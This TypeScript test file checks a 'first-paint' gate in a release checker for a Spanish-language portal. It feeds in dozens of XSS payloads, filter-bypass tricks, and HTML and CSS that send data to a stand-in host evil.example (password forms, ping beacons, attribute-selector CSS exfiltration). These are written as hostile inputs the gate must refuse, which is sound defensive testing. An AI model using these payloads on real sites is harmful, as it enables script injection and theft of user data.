import type { ReleaseManifest } from '@csuite/shared/contract/releases'
import { checkFirstPaint } from './first-paint-gate'

const check = (firstPaint: { html: string; css: string }) =>
  checkFirstPaint({ screens: [{ path: '/caudal', files: [], firstPaint }] } as unknown as ReleaseManifest)

const hostileMarkup = [
  '<script>alert(1)</script>',
  '<ScRiPt src=/remotes/x/1/a.js></ScRiPt>',
  '<script type="application/json" id="csuite-registry">{}</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="/x.js"></script></svg>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<p\fonclick=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<svg onload=alert(1)></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,x#x"/></svg>',
  '<svg><use xlink:href="/remotes/x/1/a.svg#x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><image href="https://evil.example/p.png"/></svg>',
  '<svg><foreignObject><iframe src="/"></iframe></foreignObject></svg>',
  '<svg><style>*{background:url(//evil.example)}</style></svg>',
  '<svg><path fill="url(https://evil.example/#x)"></path></svg>',
  '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<a href="/apps" target="_blank" ping="https://evil.example/">x</a>',
  '<a href="/apps?token=robado">x</a>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<form><button formaction="https://evil.example/">x</button></form>',
  '<form method="post"></form>',
  '<form id="ajeno"></form><input form="csuite-form">',
  '<input type="image" src="https://evil.example/p.png">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="/x"></object>',
  '<embed src="/x">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<div id="csuite-registry">{"remotes":[]}</div>',
  '<div id="csuite-settings">{}</div>',
  '<div id="root"></div>',
  '<div id="__csuiteEarly"></div>',
  '<a id="location"></a>',
  '</div><div id="root"><h1>Otra página</h1>',
  '</div></body><p>fuera</p>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)>',
  '<plaintext>',
  '<textarea>sin cerrar',
  '<!-- <script>alert(1)</script> -->',
  '<p title="__NONCE__">x</p>',
  '<button nonce="x">x</button>',
  '<p contenteditable>x</p>',
  '<p data-first-paint>x</p>',
  '<button popovertarget="x" autofocus onfocus=alert(1)>x</button>',
  '<dialog open>Tu sesión ha terminado</dialog>',
  '<p is="x-element">x</p>',
  '<x-element></x-element>',
]

test.each(hostileMarkup)('markup is refused: %s', (html) => {
  const [refusal] = check({ html: `<main>${html}</main>`, css: '' })
  const [bare] = check({ html, css: '' })
  expect([refusal?.rule, bare?.rule]).toEqual(['first-paint', 'first-paint'])
})

const hostileStyles = [
  '@import url(https://evil.example/x.css);',
  "@import 'https://evil.example/x.css';",
  '@\\69mport "//evil.example/x.css";',
  'p{background:url(https://evil.example/p.png)}',
  'p{background:url("//evil.example/p.png")}',
  'p{background:u\\72l(https://evil.example/p.png)}',
  'p{background:URL(/api/auth/user)}',
  'p{background:url(data:image/png;base64,AAAA)}',
  'p{background:image-set("https://evil.example/p.png" 1x)}',
  'p{background:-webkit-image-set(url(https://evil.example/p.png) 1x)}',
  'p{background:src("https://evil.example/p.png")}',
  'p{background:image("https://evil.example/p.png")}',
  'p{--x:url(https://evil.example/p.png);background:var(--x)}',
  'p{background:cross-fade(url(/a.png),url(/b.png),50%)}',
  'p{background:/**/url/**/(x);background:url(x',
  'meta[content^="a"]{background:url(https://evil.example/a)}',
  '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}',
  '@namespace svg url(http://www.w3.org/2000/svg);',
  '@property --x{syntax:"<url>";inherits:true;initial-value:url(https://evil.example)}',
  'p{behavior:url(x.htc)}',
  'p{-moz-binding:url(x.xml#x)}',
  'p{width:expression(alert(1))}',
  'p::after{content:attr(value)}',
  'p{cursor:url(https://evil.example/c.cur),auto}',
  'p{background:paint(x)}',
  '</style><script>alert(1)</script>',
  'p{content:"</style><img src=x onerror=alert(1)>"}',
  'p{content:"__NONCE__"}',
  'p{color:red}}}}',
]

test.each(hostileStyles)('styles are refused: %s', (css) => {
  const [refusal] = check({ html: '<main>Caudal</main>', css })
  expect(refusal?.rule).toBe('first-paint')
})

const sober = {
  html: '<div class="sc-a"><svg width="32" viewBox="0 0 28 28" aria-hidden="true"><path d="M0 0h1" class="b"></path></svg><main id="contenido" tabindex="-1"><h1>Caudal</h1><form noValidate=""><label for="_R_a_">Email</label><input type="email" autoComplete="username" id="_R_a_" name="email"/><div aria-live="polite"></div><button disabled="" type="submit">Entrar</button></form><a href="/forgot-password" data-discover="true">Ayuda</a> ¿No?<!-- --> <b>sí</b></main></div>',
  css: ":root{--c:#071A1F;color-scheme:light;} *,*::before{box-sizing:border-box;} .a{background-image:linear-gradient(to right, color-mix(in srgb, var(--c) 55%, transparent) 1px, transparent 1px);font:500 0.75rem/1rem 'Geist Variable',sans-serif;inset:16px 0 16px auto;width:calc(100% + 48px)} @media (min-width: 1024px){.a{display:grid;grid-template-columns:45fr 55fr;}} @keyframes k{from{clip-path:inset(-8px 100% -8px 0);}to{opacity:1}} .a:active:not(:disabled, [aria-disabled='true']){transform:translateY(0.5px);animation:k 1.8s cubic-bezier(0.3, 0, 0.2, 1) both} .b::after{content:'';flex:1} input:autofill{-webkit-font-smoothing:antialiased}",
}

test("React's and styled-components' own output is taken", () => {
  expect(check(sober)).toEqual([])
})

test('an address or an id of the portal is what makes it refused, with its name', () => {
  expect(check({ ...sober, html: sober.html.replace('/forgot-password', '//evil.example') })).toEqual([
    { rule: 'first-paint', message: 'La primera imagen de /caudal lleva el atributo href de <a>.' },
  ])
  expect(check({ ...sober, css: `${sober.css} .c{background:url(/x.png)}` })).toEqual([
    { rule: 'first-paint', message: 'La primera imagen de /caudal lleva una dirección en sus estilos.' },
  ])
})
